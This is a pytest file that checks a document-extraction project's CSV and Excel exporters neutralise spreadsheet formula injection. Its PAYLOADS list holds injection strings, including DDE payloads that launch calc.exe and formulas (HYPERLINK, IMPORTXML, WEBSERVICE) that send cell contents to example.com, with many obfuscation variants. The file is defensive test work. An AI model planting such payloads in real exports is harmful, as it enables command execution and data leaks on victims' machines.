"""Nothing that stands on a document is ever run by a spreadsheet."""

import csv
import io
import re
from collections.abc import Callable
from dataclasses import replace
from decimal import Decimal

import openpyxl
import pytest

from faktum.engine.rows.formulas import is_formula_like, neutral
from faktum.engine.rows.lay_out import Table
from faktum.engine.rows.to_csv import write_csv
from faktum.engine.rows.to_xlsx import write_xlsx
from faktum.schemas.fields import Field, Kind
from faktum.schemas.record import Cell, DocumentResult

MakeTable = Callable[..., Table]
MakeDocument = Callable[..., DocumentResult]

PAYLOADS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "@cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.com?x="&A1,"click")',
    '=IMPORTXML(CONCAT("http://example.com/?v=",A1),"//a")',
    '=WEBSERVICE("http://example.com/"&A1)',
    '=DDE("cmd";"/C calc";"x")',
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "   @SUM(A1)",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u2060+1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(A1)",
    "\x00=1+1",
    "\x01\x02=1+1",
    "'=1+1",
    '"=1+1',
    '"; =1+1',
    "Consulting;=1+1",
    "Consulting;@SUM(A1)",
    "Consulting; =cmd|' /C calc'!A0",
    "Consulting;+cmd|' /C calc'!A0",
    "Consulting;-cmd|' /C calc'!A0;x",
    "Consulting\t=1+1",
    "Consulting\n=1+1",
    "Consulting\r\n=1+1",
    'Consulting";=1+1',
]

HARMLESS = [
    "Müller & Söhne",
    "A-1",
    "1-2",
    "a=b",
    "user@example.com",
    "3 + 4 pieces",
    "Travel; - taxi",
    "5%",
    "",
    "0012",
]

RUNS = re.compile(r"""[\s\u200b-\u200f\u2060\ufeff"]*[=+\-@＝＋－＠]""")


def table_of(make_table: MakeTable, make_document: MakeDocument, text: str) -> Table:
    document = make_document(f"{text}.pdf")
    fields = {"Text": Cell(text, text), "Code": Cell(text, text), "Loss": Cell(Decimal("-12.50"), "-12,50")}
    document = replace(document, records=(replace(document.records[0], fields=fields),))
    columns = (Field("Text", Kind.TEXT), Field("Code", Kind.IDENTIFIER), Field("Loss", Kind.AMOUNT))
    return make_table([document], fields=columns)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_csv_holds_no_cell_that_runs_whatever_the_separator(
    payload: str, make_table: MakeTable, make_document: MakeDocument
) -> None:
    """Read as it was written, and as a spreadsheet would that splits at semicolons or tabs instead."""
    out = io.BytesIO()
    write_csv(table_of(make_table, make_document, payload), out)
    text = out.getvalue().decode("utf-8-sig")
    _, row = csv.reader(io.StringIO(text, newline=""))
    assert row[3] == "-12.50"
    for separator in (",", ";", "\t"):
        for cells in csv.reader(io.StringIO(text, newline=""), delimiter=separator):
            running = [cell for cell in cells if RUNS.match(cell) and re.search(r"[=@|(!＝＠]", cell)]
            assert running == []


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_workbook_holds_text_never_a_formula(
    payload: str, make_table: MakeTable, make_document: MakeDocument
) -> None:
    out = io.BytesIO()
    write_xlsx(table_of(make_table, make_document, payload), out)
    sheet = openpyxl.load_workbook(out)["Rows"]
    for cell in sheet[2][1:3]:
        assert cell.data_type != "f"
        assert cell.value == re.sub("[\x00-\x08]", "", payload).replace("\r\n", "\n").replace("\r", "\n")
        assert cell.quotePrefix == is_formula_like(str(cell.value))
    assert sheet[2][3].value == -12.5
    assert sheet[2][3].data_type == "n"


@pytest.mark.parametrize("text", HARMLESS)
def test_ordinary_text_is_left_alone(text: str) -> None:
    assert neutral(text) == text


def test_the_apostrophe_comes_once() -> None:
    assert neutral("=1+1") == "'=1+1"
    assert neutral("Consulting;=1+1") == "Consulting;'=1+1"
